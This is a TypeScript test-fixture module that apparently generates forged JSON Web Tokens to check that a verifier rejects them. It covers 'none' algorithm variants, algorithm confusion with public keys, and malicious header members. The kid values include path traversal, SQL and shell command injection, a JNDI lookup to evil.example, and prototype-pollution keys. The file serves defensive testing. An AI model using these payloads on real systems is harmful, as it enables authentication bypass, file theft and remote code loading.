import { createSign, generateKeyPairSync } from "node:crypto";
import { encode, type Forgery, forge, headerIn, type Original, partsOf, withFirst, withLast } from "./forge.ts";

const letters = [..."none"];
const cases = Array.from({ length: 16 }, (_, mask) =>
  letters.map((letter, bit) => ((mask >> bit) & 1 ? letter.toUpperCase() : letter)).join(""),
);
const surrounded = [
  "none ",
  " none",
  "none\t",
  "\nnone",
  "none\r\n",
  "none\u0000",
  "\u0000none",
  "\ufeffnone",
  "none\u00a0",
  "none,HS256",
];
const lookalikes = [
  "n\u043ene",
  "\u0578one",
  "\uff4eone",
  "\uff4e\uff4f\uff4e\uff45",
  "no\u200bne",
  "none\u200d",
  "no\u00adne",
  "non\u0435",
  "n\u00f6ne",
  "no\u0308ne",
  "\ud835\udc27one",
  "n0ne",
  "nοne",
];
const likeNone = ["", "null", "undefined", "false", "0", "None.", "no-ne", "NONE256", "plain", "unsecured", "none\\u0000"];
const notText: readonly unknown[] = [null, 0, 1, -1, true, false, [], ["none"], ["HS256"], {}, { toString: "none" }];

/** The spellings of "no algorithm" that are tried: by case, by what surrounds it, by look, and what is no text. */
export const noneSpellings: readonly unknown[] = [...cases, ...surrounded, ...lookalikes, ...likeNone, ...notText];

export const noneForgeries = (original: Original): readonly Forgery[] =>
  noneSpellings.flatMap((alg) => {
    const [head = "", body = "", signature = ""] = forge(original, { header: { ...headerIn(original), alg } }).split(".");
    const name = `alg ${JSON.stringify(alg)}`;
    return [
      { name: `${name}, no signature`, token: `${head}.${body}.` },
      { name: `${name}, two parts`, token: `${head}.${body}` },
      { name: `${name}, right signature`, token: `${head}.${body}.${signature}` },
      { name: `${name}, the original's signature`, token: `${head}.${body}.${partsOf(original.token)[2]}` },
    ];
  });

const rsa = generateKeyPairSync("rsa", { modulusLength: 2048 });
const ec = generateKeyPairSync("ec", { namedCurve: "P-256" });
const publicForms = [rsa, ec].flatMap(({ publicKey }) => [
  publicKey.export({ type: "spki", format: "pem" }).toString(),
  publicKey.export({ type: "spki", format: "pem" }).toString().trim(),
  publicKey.export({ type: "spki", format: "der" }),
  JSON.stringify(publicKey.export({ format: "jwk" })),
]);
const otherAlgorithms = [
  "HS384",
  "HS512",
  "RS256",
  "RS384",
  "RS512",
  "ES256",
  "ES384",
  "PS256",
  "EdDSA",
  "hs256",
  "HS256 ",
  "HS-256",
  "HMAC",
  "A256GCM",
  "dir",
  "RSA-OAEP",
];

/** Tokens that would have the verifier use another algorithm, or a public key as a secret. */
export const confusionForgeries = (original: Original): readonly Forgery[] => {
  const header = headerIn(original);
  const asRsa = `${encode({ ...header, alg: "RS256" })}.${partsOf(original.token)[1]}`;
  return [
    ...otherAlgorithms.map((alg) => ({
      name: `alg ${alg}, HMAC signature`,
      token: forge(original, { header: { ...header, alg } }),
    })),
    ...publicForms.map((key, index) => ({ name: `public key ${index} as HMAC secret`, token: forge(original, { key }) })),
    ...publicForms.map((key, index) => ({
      name: `public key ${index} as HMAC secret under RS256`,
      token: forge(original, { key, header: { ...header, alg: "RS256" } }),
    })),
    {
      name: "a real RS256 signature",
      token: `${asRsa}.${createSign("sha256").update(asRsa).sign(rsa.privateKey).toString("base64url")}`,
    },
    { name: "HS384 with the right key", token: forge(original, { hash: "sha384", header: { ...header, alg: "HS384" } }) },
    { name: "HS512 with the right key", token: forge(original, { hash: "sha512", header: { ...header, alg: "HS512" } }) },
    { name: "HS512 said to be HS256", token: forge(original, { hash: "sha512" }) },
  ];
};

const kids: readonly unknown[] = [
  "../../../../../../dev/null",
  "/dev/null",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "file:///dev/null",
  "%2e%2e%2fdev%2fnull",
  "....//....//dev/null",
  "k1' OR '1'='1",
  "k1'; DROP TABLE keys;--",
  "' UNION SELECT 'AA==' --",
  'k1" OR ""="',
  "$(cat /etc/passwd)",
  "| sleep 9",
  "{{7*7}}",
  `${"$"}{jndi:ldap://evil.example/a}`,
  "https://evil.example/key",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "current",
  "byKid",
  "size",
  "",
  " ",
  "*",
  "0",
  "undefined",
  "null",
  "k1\u0000",
  "K1",
  " k1",
  "k1 ",
  "k\u200b1",
  "\uff4b1",
  "k1/",
  "k1#",
  "k".repeat(300),
  0,
  1,
  null,
  true,
  ["k1"],
  { kid: "k1" },
];
const emptyKeys = [Buffer.alloc(0), Buffer.from([0]), Buffer.alloc(32), "null", "undefined", "secret"];

/** Tokens that name another key: a path, a query, a member of every object, a thing that is no text. */
export const kidForgeries = (original: Original): readonly Forgery[] =>
  kids.flatMap((kid, index) => {
    const header = { ...headerIn(original), kid };
    const name = `kid ${JSON.stringify(kid).slice(0, 40)}`;
    const key = emptyKeys[index % emptyKeys.length];
    return [
      { name, token: forge(original, { header }) },
      { name: `${name}, signed with nothing`, token: forge(original, { header, ...(key === undefined ? {} : { key }) }) },
    ];
  });

const jwk = rsa.publicKey.export({ format: "jwk" });
const headerMembers: readonly (readonly [string, unknown])[] = [
  ["jku", "https://evil.example/jwks.json"],
  ["jku", "http://127.0.0.1/jwks.json"],
  ["x5u", "https://evil.example/cert.pem"],
  ["jwk", jwk],
  ["jwk", { kty: "oct", k: "AAAA" }],
  ["x5c", ["MIIB"]],
  ["x5t", "AAAA"],
  ["x5t#S256", "AAAA"],
  ["crit", []],
  ["crit", ["exp"]],
  ["crit", ["b64"]],
  ["crit", ["urn:unknown"]],
  ["b64", false],
  ["b64", true],
  ["zip", "DEF"],
  ["cty", "JWT"],
  ["enc", "A256GCM"],
  ["epk", {}],
  ["p2c", 2_147_483_647],
  ["iss", "https://evil.example"],
  ["__proto__", { kid: "k1" }],
  ["constructor", {}],
  ["unknown", 1],
  ["", 1],
];
const types: readonly unknown[] = [
  "JWT",
  "jwt",
  "AT+JWT",
  "at+JWT",
  "application/at+jwt",
  "rt+jwt",
  "dpop+jwt",
  "at+jwt ",
  "",
  null,
  1,
  ["at+jwt"],
];

/** Tokens whose header says more, says it twice, or says it of another kind of token. */
export const headerForgeries = (original: Original): readonly Forgery[] => {
  const header = headerIn(original);
  const { alg, typ, kid } = header;
  return [
    ...headerMembers.map(([member, value]) => ({
      name: `header ${member}`,
      token: forge(original, { header: withFirst(header, member, JSON.stringify(value)) }),
    })),
    ...Object.entries(header).flatMap(([member, value]) => [
      { name: `${member} twice, ours last`, token: forge(original, { header: withFirst(header, member, '"other"') }) },
      { name: `${member} twice, ours first`, token: forge(original, { header: withLast(header, member, '"other"') }) },
      { name: `${member} twice, the same`, token: forge(original, { header: withLast(header, member, JSON.stringify(value)) }) },
    ]),
    ...types.map((each) => ({
      name: `typ ${JSON.stringify(each)}`,
      token: forge(original, { header: { ...header, typ: each } }),
    })),
    { name: "no typ", token: forge(original, { header: { alg, kid } }) },
    { name: "no kid", token: forge(original, { header: { alg, typ } }) },
    { name: "no alg", token: forge(original, { header: { typ, kid } }) },
    { name: "an empty header", token: forge(original, { header: {} }) },
    { name: "an array as header", token: forge(original, { header: [header] }) },
    { name: "text as header", token: forge(original, { header: '"HS256"' }) },
    { name: "null as header", token: forge(original, { header: "null" }) },
    { name: "no JSON as header", token: forge(original, { header: "{" }) },
    { name: "an escaped name", token: forge(original, { header: JSON.stringify(header).replace('"alg"', '"\\u0061lg"') }) },
    { name: "upper-case names", token: forge(original, { header: { ALG: alg, TYP: typ, KID: kid } }) },
  ];
};
